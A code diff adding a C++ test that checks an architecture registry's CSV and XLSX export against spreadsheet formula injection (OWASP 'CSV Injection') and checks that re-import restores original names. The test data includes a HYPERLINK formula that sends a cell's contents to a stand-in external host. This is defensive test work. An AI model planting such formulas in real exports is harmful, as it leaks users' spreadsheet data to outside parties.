@@ -253,6 +253,52 @@ TEST_P(ArchitectureTransferTest, TheConsolesExportsImportBackWithNoProblemAndNoC
   EXPECT_TRUE(c.get("/api/architecture/export.xml").body == model_before) << "the model is as it was";
 }
 
+TEST_P(ArchitectureTransferTest, ACsvExportWritesFormulasAsTextAndTheImportReadsTheOriginalNames) {
+  // OWASP "CSV Injection": a name a spreadsheet would run as a formula is exported with an
+  // apostrophe before it (shown as text), and importing the export gives the name as it was.
+  Instance in(GetParam());
+  auto c = admin_client(in, "balikpapan");
+  const std::string name = R"(=HYPERLINK("http://contoh.example/?d="&A1;"Klik"))";
+  const std::string description = "@SUM(A1:A9)";
+  boost::json::object body{{"domain", "layanan"},
+                           {"code", "L-RUMUS"},
+                           {"name", name},
+                           {"description", description},
+                           {"owner_agency_id", agency_id(c, "DISKOMINFO")}};
+  auto created = c.post("/api/architecture/elements", boost::json::serialize(body));
+  ASSERT_EQ(created.status, 201) << created.body;
+
+  for (const std::string separator : {"semicolon", "comma"}) {
+    auto csv = c.get("/api/architecture/export.csv?kind=elements&separator=" + separator);
+    ASSERT_EQ(csv.status, 200) << csv.body;
+    EXPECT_NE(csv.body.find(R"("'=HYPERLINK(""http://contoh.example/?d=""&A1;""Klik""))"), std::string::npos)
+        << csv.body;
+    EXPECT_EQ(csv.body.find(R"("=HYPERLINK()"), std::string::npos) << "no cell starts with '='";
+    EXPECT_NE(csv.body.find("'@SUM(A1:A9)"), std::string::npos) << csv.body;
+    EXPECT_EQ(interchange::read_csv(csv.body).at(1).at(1), name) << "read back without the apostrophe";
+    expect_no_change(upload(c, "dry_run=true", "text/csv", csv.body), 1, 0, "CSV " + separator);
+  }
+
+  // XLSX writes every text cell as a string cell, never a formula: the name reads back as it is.
+  auto xlsx = c.get("/api/architecture/export.xlsx");
+  ASSERT_EQ(xlsx.status, 200);
+  auto sheets = interchange::read_xlsx(xlsx.body);
+  ASSERT_FALSE(sheets.empty());
+  ASSERT_GE(sheets[0].rows.size(), 2u);
+  EXPECT_EQ(sheets[0].rows[1].at(1), name);
+
+  // Removed and imported again from the export: the original name and description.
+  auto csv = c.get("/api/architecture/export.csv?kind=elements");
+  ASSERT_EQ(c.del("/api/architecture/elements/" + text_of(created.json, "id")).status, 204);
+  auto imported = upload(c, "dry_run=false", "text/csv", csv.body);
+  ASSERT_EQ(imported.status, 200) << imported.body;
+  EXPECT_EQ(imported.json.at("elements_created").as_int64(), 1) << imported.body;
+  auto listed = c.get("/api/architecture/elements?q=L-RUMUS");
+  ASSERT_EQ(listed.json.at("items").as_array().size(), 1u) << listed.body;
+  EXPECT_EQ(text_of(listed.json.at("items").at(0), "name"), name);
+  EXPECT_EQ(text_of(listed.json.at("items").at(0), "description"), description);
+}
+
 TEST_P(ArchitectureTransferTest, HeadersAndValuesInIndonesianOrEnglishInAnyCaseAndAgenciesByCodeShortOrFullName) {
   Instance in(GetParam());
   auto c = admin_client(in, "balikpapan");
